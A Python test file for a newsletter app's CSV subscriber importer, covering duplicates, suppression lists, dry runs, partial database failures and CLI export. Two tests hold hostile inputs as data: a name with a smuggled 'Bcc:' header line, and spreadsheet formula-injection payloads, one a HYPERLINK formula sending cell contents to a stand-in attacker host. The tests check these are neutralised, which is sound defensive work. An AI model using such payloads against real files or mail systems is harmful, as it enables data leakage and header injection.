"""The import itself: readers added in chunks with their "imported" event, pending or active,
suppression respected, a dry run that changes nothing, and a stop part-way said exactly."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import event, select
from sqlalchemy.exc import OperationalError
from sqlalchemy.orm import Session, sessionmaker

from newsletter.readers.importer import CHUNK, ImportFileError, import_csv
from newsletter.readers.models import Subscriber, SubscriberEvent, SubscriberEventKind, SubscriberStatus
from newsletter.readers.suppression import SuppressionList

DATA = Path(__file__).resolve().parents[2] / "tests" / "data" / "import"


def write(tmp_path: Path, text: str, name: str = "list.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def people(sessions: sessionmaker[Session]) -> dict[str, Subscriber]:
    with sessions() as session:
        return {s.email: s for s in session.scalars(select(Subscriber))}


def test_import_adds_valid_rows_and_reports_bad_ones_by_row(sessions: sessionmaker[Session], tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "Email Address,Name\n"
        "Ana@Example.org,Ana\n"
        "not-an-email,Bad\n"
        "bob@example.org,Bob\n"
        "ana@example.org,Ana again\n"
        "\n"
        "eve@example.org\r\n",
    )
    report = import_csv(sessions, path, confirmed=True)
    assert (report.added, report.existing, report.duplicates, report.invalid) == (3, 0, 1, 1)
    assert [(r.row, r.email, r.reason) for r in report.rejected] == [
        (3, "not-an-email", "An email address must have an @-sign."),
        (5, "ana@example.org", "duplicate of row 2"),
    ]
    found = people(sessions)
    assert set(found) == {"ana@example.org", "bob@example.org", "eve@example.org"}
    assert found["ana@example.org"].name == "Ana"
    assert all(s.status is SubscriberStatus.ACTIVE for s in found.values())


def test_reimporting_the_same_file_adds_nobody(sessions: sessionmaker[Session], tmp_path: Path) -> None:
    path = write(tmp_path, "email,name\nana@example.org,Ana\n")
    first = import_csv(sessions, path)
    assert len(first.pending) == 1  # awaiting a confirmation email
    again = import_csv(sessions, path)
    assert again.added == 0 and again.existing == 1 and again.rejected_total == 0 and again.pending == []


def test_imported_readers_get_their_event(sessions: sessionmaker[Session]) -> None:
    import_csv(sessions, DATA / "ghost.csv", confirmed=True)
    with sessions() as session:
        events = session.execute(select(Subscriber.email, SubscriberEvent.kind, SubscriberEvent.detail)
                                 .join(SubscriberEvent)).all()
    assert len(events) == 7 and all(kind is SubscriberEventKind.IMPORTED for _, kind, _ in events)
    assert "from ghost.csv (Ghost members export); active at once" in events[0][2]


def test_names_with_line_breaks_are_flattened(sessions: sessionmaker[Session], tmp_path: Path) -> None:
    import_csv(sessions, write(tmp_path, 'email,name\nana@example.org,"Ana\r\nBcc: evil@example.com"\n'))
    assert people(sessions)["ana@example.org"].name == "Ana Bcc: evil@example.com"


def test_a_dry_run_changes_nothing(sessions: sessionmaker[Session]) -> None:
    report = import_csv(sessions, DATA / "mailchimp_unsubscribed.csv", dry_run=True,
                        suppression=SuppressionList("k"))
    assert report.dry_run and report.unsubscribed == 3 and report.invalid == 1
    with sessions() as session:
        assert session.scalars(select(Subscriber)).first() is None
        assert not SuppressionList("k").suppressed(session, ["oskar.lind@example.se"])


def test_mailchimp_unsubscribed_rows_are_suppressed_and_existing_readers_leave(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    suppression = SuppressionList("k")
    import_csv(sessions, write(tmp_path, "email\noskar.lind@example.se\n"), confirmed=True)
    report = import_csv(sessions, DATA / "mailchimp_unsubscribed.csv", confirmed=True, suppression=suppression)
    assert (report.added, report.unsubscribed, report.stopped) == (0, 3, None)
    with sessions() as session:
        assert suppression.suppressed(session, ["fatima.zahra@example.ma", "noel.ward@example.co.uk"]) == {
            "fatima.zahra@example.ma", "noel.ward@example.co.uk"}
    oskar = people(sessions)["oskar.lind@example.se"]
    assert oskar.status is SubscriberStatus.UNSUBSCRIBED and len(people(sessions)) == 1
    # Suppressed now: a later import of the same address is refused with the reason.
    again = import_csv(sessions, write(tmp_path, "email\nfatima.zahra@example.ma\n", "b.csv"), suppression=suppression)
    assert [(r.row, r.reason) for r in again.rejected] == [
        (2, "on the suppression list (bounced, complained or erased)")]


def test_unreadable_files_get_a_clear_error(sessions: sessionmaker[Session], tmp_path: Path) -> None:
    with pytest.raises(ImportFileError, match="cannot open"):
        import_csv(sessions, tmp_path / "missing.csv")
    with pytest.raises(ImportFileError, match="the file is empty"):
        import_csv(sessions, DATA / "empty.csv")


def test_a_database_failure_part_way_says_which_rows_were_imported(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    """The third chunk's INSERT fails: the first two chunks stay imported and the report says so."""
    rows = CHUNK * 3
    path = write(tmp_path, "email\n" + "".join(f"r{i}@example.org\n" for i in range(rows)))
    engine = sessions.kw["bind"]
    inserts = []

    def fail_third(conn, cursor, statement, parameters, context, executemany):  # type: ignore[no-untyped-def]
        if statement.startswith("INSERT INTO subscriber "):
            inserts.append(1)
            if len(inserts) == 3:
                raise OperationalError(statement, parameters, OSError("disk full"))

    event.listen(engine, "before_cursor_execute", fail_third)
    try:
        report = import_csv(sessions, path, confirmed=True)
    finally:
        event.remove(engine, "before_cursor_execute", fail_third)
    assert report.committed_rows == (2, 2 * CHUNK + 1) and report.added == 2 * CHUNK
    assert report.stopped is not None and report.stopped.startswith(
        f"the database failed on rows {2 * CHUNK + 2}–{3 * CHUNK + 1}")
    assert len(people(sessions)) == 2 * CHUNK


def test_cli_dry_run_import_and_export(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """`subscribers import --dry-run --json` reports without changing anything; the real import
    keeps the old keys and adds the layout, counts and rejected rows; `export` writes CSV."""
    source = str(DATA / "substack.csv")
    dry = json.loads(run("subscribers", "import", source, "--dry-run", "--json").stdout)
    assert (dry["dry_run"], dry["layout"], dry["added"], dry["skipped"], dry["duplicates"]) == (
        True, "substack", 7, 2, 1)
    assert {"row": 4, "line": 4, "email": "ines.ferreira@example.pt", "reason": "email disabled in Substack"} in \
        dry["rejected"]
    assert run("subscribers", "export").stdout.splitlines() == [
        "email,name,status,source,created_at,confirmed_at,unsubscribed_at"]
    rejected = tmp_path / "rejected.csv"
    done = json.loads(run("subscribers", "import", source, "--confirmed", "--rejected", str(rejected),
                          "--json").stdout)
    assert (done["added"], done["existing"], done["confirmations_sent"], done["rejected_total"]) == (7, 0, 0, 5)
    assert rejected.read_text(encoding="utf-8").splitlines()[0] == "row,email,reason"
    run("subscribers", "export", "--status", "active", "--query", "example.it", "--out", str(tmp_path / "out.csv"))
    lines = (tmp_path / "out.csv").read_text(encoding="utf-8").splitlines()
    assert len(lines) == 2 and lines[1].startswith("luca.bianchi@example.it,,active,import,")
    text = run("subscribers", "import", str(DATA / "empty.csv"), ok=False)
    assert text.returncode == 1 and "the file is empty" in text.stderr


def test_the_rejected_rows_csv_neutralises_formulas(sessions: sessionmaker[Session], tmp_path: Path) -> None:
    # OWASP CSV injection: the editor opens this file in a spreadsheet; its text is the file author's.
    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+1+1", "-2+3", "@SUM(1,2)"]
    path = write(tmp_path, "email,name\nana@example.org,Ana\n" + "".join(f'"{e.replace(chr(34), chr(34) * 2)}",x\n'
                                                                        for e in evil))
    out = io.StringIO(newline="")
    report = import_csv(sessions, path, confirmed=True, rejected_out=out)
    assert report.rejected_total == len(evil)
    header, *rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert header == ["row", "email", "reason"]
    assert [row[1] for row in rows] == ["'" + e for e in evil]  # shown as the text it was
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
